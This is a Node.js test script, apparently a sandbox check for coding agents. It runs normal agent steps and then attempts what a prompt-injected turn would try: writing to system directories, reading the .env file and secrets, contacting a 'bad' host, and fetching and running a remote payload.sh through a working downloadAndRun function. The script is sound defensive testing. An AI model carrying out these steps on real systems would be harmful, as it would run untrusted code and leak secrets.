// An agent's turn, as a Node.js agent (Claude Code, Codex, Gemini CLI) takes
// it: edit the workspace, commit, build and run the result, talk to its
// API and its registry; then what a prompt-injected turn would try. One
// line per step: "STEP: OUTCOME", the outcome an errno name when refused.
//
//   node session.js API_HOST REGISTRY_HOST BAD_HOST BAD_ADDRESS KEY
"use strict";
const fs = require("fs");
const net = require("net");
const http = require("http");
const dns = require("dns").promises;
const cp = require("child_process");

const [api, registry, bad, badAddress, key] = process.argv.slice(2);
const git = (...args) =>
    cp.execFileSync("git", ["-c", "user.name=agent", "-c", "user.email=agent@test", ...args], {cwd: "/workspace"});

function connect(host, port) {
    return new Promise((ok, fail) => {
        const s = net.connect({host, port, timeout: 3000}, () => { s.destroy(); ok("connected"); });
        s.on("error", fail);
        s.on("timeout", () => { s.destroy(); fail(new Error("timeout")); });
    });
}

// The payload is fetched, written and run: nothing of it may run.
function downloadAndRun(url) {
    return new Promise((ok, fail) => {
        http.get(url, {timeout: 3000}, (res) => {
            let body = "";
            res.on("data", (d) => (body += d));
            res.on("end", () => {
                fs.writeFileSync("/tmp/payload.sh", body);
                ok(cp.execFileSync("sh", ["/tmp/payload.sh"]).toString().trim());
            });
        }).on("error", fail);
    });
}

async function step(name, fn) {
    let outcome;
    try {
        outcome = await fn();
    } catch (e) {
        outcome = e.code || e.message;
    }
    console.log(`${name}: ${outcome}`);
}

(async () => {
    await step("edit", () => {
        fs.mkdirSync("/workspace/src", {recursive: true});
        fs.writeFileSync("/workspace/src/draft.js", 'console.log("built and ran");\n');
        fs.renameSync("/workspace/src/draft.js", "/workspace/app.js");
        return "written";
    });
    await step("commit", () => {
        git("init", "-q");
        git("add", "-A");
        git("commit", "-qm", "turn 1");
        return git("log", "--format=%s").toString().trim();
    });
    await step("run", () => cp.execFileSync("node", ["/workspace/app.js"]).toString().trim());
    await step(`api ${api}`, () => connect(api, 443));
    await step(`registry ${registry}`, () => connect(registry, 443));
    await step("secret", () => fs.readFileSync(`/run/secrets/${key}`, "utf8"));
    await step("secret in env", () => (key in process.env ? "present" : "absent"));
    // What an injected prompt asks for.
    await step("write /etc", () => { fs.writeFileSync("/etc/agent", "x"); return "written"; });
    await step("write /usr/local/bin", () => { fs.writeFileSync("/usr/local/bin/agent", "x"); return "written"; });
    await step("read .env", () => fs.readFileSync("/workspace/.env", "utf8").trim());
    await step(`dns ${bad}`, async () => (await dns.lookup(bad)).address);
    await step(`connect ${badAddress}`, () => connect(badAddress, 443));
    await step("download-and-run", () => downloadAndRun(`http://${bad}/payload.sh`));
    await step("download-and-run by address", () => downloadAndRun(`http://${badAddress}/payload.sh`));
})();
